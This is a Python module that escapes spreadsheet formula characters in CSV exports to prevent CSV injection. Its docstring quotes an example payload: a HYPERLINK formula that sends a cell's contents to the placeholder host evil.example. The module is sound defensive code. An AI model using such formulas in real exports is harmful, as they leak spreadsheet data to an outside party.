"""CSV cells a spreadsheet will not run: the one helper every CSV we write goes through.

A spreadsheet opening a CSV treats a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab
or carriage return) as a formula: a rule named `=HYPERLINK("https://evil.example?"&A1, "open")`
exported by one member runs in another's spreadsheet. As OWASP recommends ("CSV Injection"), such a
text cell is written with a leading single quote, which spreadsheets show as text. Only text is
touched: numbers stay numbers (-1.5 is a value, not a formula), and JSON exports need none of this.
"""

from __future__ import annotations

from collections.abc import Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_rows(rows: list[Sequence], text_at: Sequence[int]) -> list[Sequence]:
    """`rows` with safe_cell applied at the positions in `text_at`. Only a row that needs it is
    copied, so an export of millions of plain rows pays one check per text cell."""
    out = rows
    for i, row in enumerate(rows):
        if any(isinstance(row[at], str) and row[at].startswith(FORMULA_STARTS) for at in text_at):
            if out is rows:
                out = list(rows)
            out[i] = [safe_cell(v) if at in text_at else v for at, v in enumerate(row)]
    return out
